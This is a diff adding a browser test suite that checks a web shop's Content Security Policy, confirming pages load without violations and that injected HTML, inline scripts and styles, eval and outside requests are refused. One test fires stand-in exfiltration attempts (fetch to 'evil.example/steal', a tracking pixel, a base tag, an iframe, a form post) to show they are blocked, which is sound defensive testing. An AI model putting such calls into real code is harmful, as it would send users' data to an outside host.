@@ -1,0 +1,217 @@
+import { readFileSync } from 'node:fs';
+import type { Page } from 'playwright-core';
+import { matchPath } from 'react-router-dom';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Article } from '#contract/articles.ts';
+import { openShop, type Shop, type Visitor } from '../support/browser.ts';
+import { openRoles, settled, shopPages } from '../support/pages.ts';
+
+/** No page needs more than its policy allows, and the policy stops what somebody might slip into one. */
+
+const routes = [...readFileSync('src/app/routes.tsx', 'utf8').matchAll(/page\(\s*'([^']+)'/g)].map(
+  ([, path = '']) => path,
+);
+const known = Object.keys(shopPages);
+const pathOf = (address: string) => address.split('?')[0] ?? '';
+/** The address of a route with the most on it; `/flows` exists for who asks for it. */
+const addressOf = (route: string): string | undefined =>
+  route === '/flows'
+    ? '/flows?inspect=flows'
+    : known
+        .filter((address) => (route === '*' ? address === '/nowhere' : matchPath(route, pathOf(address)) !== null))
+        .toSorted((a, b) => b.length - a.length)[0];
+
+let shop: Shop;
+let visitor: Visitor;
+let page: Page;
+beforeAll(async () => {
+  shop = await openShop();
+  visitor = await (await openRoles(shop)).open('user');
+  page = visitor.page;
+  await visitor.context.addInitScript(() => {
+    const seen: string[] = [];
+    Object.assign(window, { violations: seen });
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      seen.push(`${effectiveDirective} ${blockedURI}`);
+    });
+  });
+});
+afterAll(() => shop.close());
+
+/** To another page as its links lead there, which is sooner than to load it anew; the page's own code comes all the same. */
+async function walkTo(address: string): Promise<void> {
+  await page.evaluate(async (to) => {
+    history.pushState({}, '', to);
+    dispatchEvent(new PopStateEvent('popstate'));
+    for (let frame = 0; frame < 2; frame += 1) await new Promise(requestAnimationFrame);
+  }, address);
+  await settled(page);
+}
+
+const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+
+describe('the pages', () => {
+  it('stand on every route without a violation', async () => {
+    expect(routes.length).toBeGreaterThan(30);
+    expect(routes.filter((route) => addressOf(route) === undefined)).toEqual([]);
+    const wrong: string[] = [];
+    const titles = new Set<string>();
+    const addresses = [...new Set(routes.map((route) => addressOf(route) ?? ''))];
+    await page.goto('/');
+    await settled(page);
+    for (const address of addresses) {
+      // A tab that is recorded does not look on at itself.
+      if (address.includes('?inspect')) await page.goto(address);
+      const before = address.includes('?inspect') ? 0 : (await violations()).length;
+      await walkTo(address);
+      titles.add(await page.title());
+      const seen = (await violations()).slice(before);
+      wrong.push(...seen.map((violation) => `${address}: ${violation}`));
+    }
+    expect(wrong).toEqual([]);
+    // It was walked, and not looked at one page again and again.
+    expect(titles.size).toBeGreaterThan(15);
+    expect(visitor.noise).toEqual([]);
+  });
+
+  it('have their styles, also those of a toast, and change their scheme', async () => {
+    await page.goto('/blog-subscribe');
+    await settled(page);
+    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
+    const dark = await background();
+    await page.getByRole('button', { name: 'Light colours' }).click();
+    await expect.poll(background).not.toBe(dark);
+    await expect.poll(() => page.evaluate(() => document.documentElement.hasAttribute('data-still'))).toBe(false);
+    await page.getByRole('contentinfo').getByRole('button', { name: 'Subscribe', exact: true }).click();
+    const toast = page.locator('.notistack-SnackbarContainer');
+    await toast.waitFor();
+    expect(await toast.evaluate((element) => getComputedStyle(element).position)).toBe('fixed');
+    expect(await violations()).toEqual([]);
+  });
+
+  it('name the characters of an article', async () => {
+    await page.route('**/v1/article/9/get*', async (route) => {
+      const answer = (await (await route.fetch()).json()) as { message: Article };
+      const message = { ...answer.message, content: 'Half is &frac12;, &copy; the shop, and &nosuchthing; stays.' };
+      await route.fulfill({ json: { success: 1, message } });
+    });
+    await page.goto('/article/9');
+    await page.getByText('Half is ½, © the shop, and &nosuchthing; stays.').waitFor();
+    expect(await violations()).toEqual([]);
+  });
+});
+
+/** What became of something that a page might be made to do. */
+const attempt = <T>(what: () => T) => page.evaluate(what);
+
+describe('the policy', () => {
+  it('names neither unsafe-inline nor unsafe-eval, and another nonce each time', async () => {
+    const ask = async () => {
+      const response = await page.request.get('/');
+      return response.headers()['content-security-policy'] ?? '';
+    };
+    const [first, second] = [await ask(), await ask()];
+    expect(first).not.toContain('unsafe');
+    expect(first).toMatch(/'nonce-[^']+'/);
+    expect(first).not.toBe(second);
+  });
+
+  it('refuses markup, scripts and handlers that are made of text', async () => {
+    await page.goto('/');
+    await settled(page);
+    const refused = await attempt(async () => {
+      const tried = new Map<string, () => unknown>([
+        ['innerHTML', () => Object.assign(document.createElement('div'), { innerHTML: '<b>hello</b>' })],
+        ['insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>hello</b>')],
+        ['srcdoc', () => Object.assign(document.createElement('iframe'), { srcdoc: '<b>hello</b>' })],
+        ['a script of text', () => Object.assign(document.createElement('script'), { text: '1' })],
+        ['a script from elsewhere', () => Object.assign(document.createElement('script'), { src: '/x.js' })],
+        ['a handler', () => document.createElement('div').setAttribute('onclick', '1')],
+        ['another policy', () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {})],
+        ['one for everything', () => Reflect.get(window, 'trustedTypes').createPolicy('default', {})],
+      ]);
+      const names = [];
+      for (const [name, act] of tried) {
+        try {
+          act();
+        } catch (error) {
+          if (error instanceof TypeError) names.push(name);
+        }
+      }
+      // Outside of this call: what a debugger evaluates may always evaluate.
+      const evaluated = await new Promise<string>((resolve) => {
+        setTimeout(() => {
+          try {
+            resolve(String(Reflect.get(window, 'eval')('1')));
+          } catch {
+            resolve('eval');
+          }
+        });
+      });
+      return [...names, evaluated];
+    });
+    expect(refused).toEqual([
+      'innerHTML',
+      'insertAdjacentHTML',
+      'srcdoc',
+      'a script of text',
+      'a script from elsewhere',
+      'a handler',
+      'another policy',
+      'one for everything',
+      'eval',
+    ]);
+  });
+
+  it('runs no inline script and draws no inline style that came without the nonce', async () => {
+    await page.goto('/');
+    await settled(page);
+    const drawn = await attempt(() => {
+      const script = document.createElement('script');
+      try {
+        script.append("document.title = 'taken over'");
+        document.head.append(script);
+      } catch {
+        // Refused as it is put together: as good.
+      }
+      const style = document.createElement('style');
+      style.append('body { outline: 7px solid red }');
+      document.head.append(style);
+      document.body.setAttribute('style', 'border-left: 7px solid red');
+      const { outlineWidth, borderLeftWidth } = getComputedStyle(document.body);
+      return { title: document.title, outlineWidth, borderLeftWidth };
+    });
+    expect(drawn.title).not.toBe('taken over');
+    expect([drawn.outlineWidth, drawn.borderLeftWidth]).not.toContain('7px');
+    const seen = (await violations()).join('\n');
+    for (const directive of ['style-src-elem inline', 'style-src-attr inline']) expect(seen).toContain(directive);
+  });
+
+  it('loads nothing from elsewhere, sends nothing there, and moves the page’s base nowhere', async () => {
+    await page.goto('/');
+    await settled(page);
+    await attempt(async () => {
+      await fetch('https://evil.example/steal').catch(() => {});
+      const image = Object.assign(new Image(), { src: 'https://evil.example/pixel.png' });
+      document.body.append(image);
+      const base = Object.assign(document.createElement('base'), { href: 'https://evil.example/' });
+      document.head.prepend(base);
+      const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' });
+      document.body.append(frame);
+      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
+      document.body.append(form);
+      form.submit();
+    });
+    for (const directive of ['connect-src', 'img-src', 'base-uri', 'frame-src', 'form-action'])
+      await expect.poll(async () => (await violations()).join('\n')).toContain(`${directive} `);
+    expect(await page.evaluate(() => document.baseURI)).toContain(shop.url);
+  });
+
+  it('holds for the description of the API, whose style it knows', async () => {
+    await page.goto('/v1/docs');
+    expect(
+      await page.evaluate(() => getComputedStyle(document.querySelector('details') as Element).borderRadius),
+    ).not.toBe('0px');
+    expect(await violations()).toEqual([]);
+  });
+});
